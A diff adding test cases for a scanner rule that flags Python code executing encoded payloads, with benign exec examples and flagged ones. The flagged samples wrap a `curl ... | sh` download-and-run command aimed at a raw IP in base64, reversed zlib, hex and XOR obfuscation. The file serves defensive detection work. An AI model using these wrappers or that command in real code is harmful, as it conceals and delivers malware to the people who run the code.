@@ -1,0 +1,58 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import { deflateSync } from 'node:zlib';
+import rule from './py-exec-encoded-payload.js';
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+const inner = `import os\nos.system("curl -s http://45.61.1.2:1244/p | sh")\n`;
+const packed = deflateSync(Buffer.from(b64(inner))).toString('base64').split('').reverse().join('');
+
+ruleTest(rule, {
+  clean: [
+    { name: 'setup.py reads its version with exec of a file', file: 'setup.py', code: `about = {}\nwith open('pkg/__version__.py') as f:\n    exec(f.read(), about)\nsetup(name='pkg', version=about['__version__'])\n` },
+    { name: 'six exec_ of a literal', file: 'six.py', code: `exec_("""def reraise(tp, value, tb=None):\n    raise tp, value, tb\n""")\n` },
+    { name: 'email library base64 without exec', file: 'email/encoders.py', code: `from base64 import encodebytes as _bencode\ndef encode_base64(msg):\n    orig = msg.get_payload(decode=True)\n    encdata = str(_bencode(orig), 'ascii')\n    msg.set_payload(encdata)\n` },
+    { name: 'pickle/json loads not executed', file: 'a.py', code: `import json, base64\ndata = json.loads(base64.b64decode(s))\n` },
+    { name: 'eval of a literal expression', file: 'b.py', code: `x = eval("1 + 2")\n` },
+  ],
+  flagged: [
+    {
+      name: 'exec of base64',
+      file: 'setup.py',
+      code: `import base64\nexec(base64.b64decode("${b64(inner)}"))\n`,
+      findings: [{ line: 2, decoded: /curl -s http:\/\/45\.61\.1\.2:1244/, message: /base64/ }],
+    },
+    {
+      name: 'pyobfuscate lambda, reversed base64 of zlib',
+      file: 'x.py',
+      code: `_ = lambda __ : __import__('base64').b64decode(__import__('zlib').decompress(__import__('base64').b64decode(__[::-1])));exec((_)(b'${packed}'))\n`,
+      findings: [{ line: 1, decoded: /os\.system/, message: /reverse → base64 → zlib/ }],
+    },
+    {
+      name: 'exec(bytes.fromhex(...)) through an alias',
+      file: 'y.py',
+      code: `from builtins import exec as run\npayload = "${Buffer.from('print(1)').toString('hex')}"\nrun(bytes.fromhex(payload).decode())\n`,
+      findings: [{ line: 3, decoded: 'print(1)' }],
+    },
+    {
+      name: 'XOR helper with a literal key',
+      file: 'z.py',
+      code: `import base64\ndef d(data, key):\n    return bytes([b ^ ord(key[i % len(key)]) for i, b in enumerate(data)])\nexec(d(base64.b64decode("${Buffer.from([...'print(2)'].map((c, i) => c.charCodeAt(0) ^ 'k3y'.charCodeAt(i % 3))).toString('base64')}"), "k3y"))\n`,
+      findings: [{ line: 4, decoded: 'print(2)', message: /xor/ }],
+    },
+    {
+      name: 'marshal blob executed, not decodable',
+      file: 'm.py',
+      code: `import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))\n`,
+      findings: [
+        { line: 2, message: /exec\(\) runs data that passes through a decoder/, confidence: 'medium' },
+        { line: 2, message: /marshal\.loads/ },
+      ],
+    },
+    {
+      name: 'PyArmor',
+      file: 'main.py',
+      code: `from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')\n`,
+      findings: [{ line: 1, severity: 'high' }],
+    },
+  ],
+});
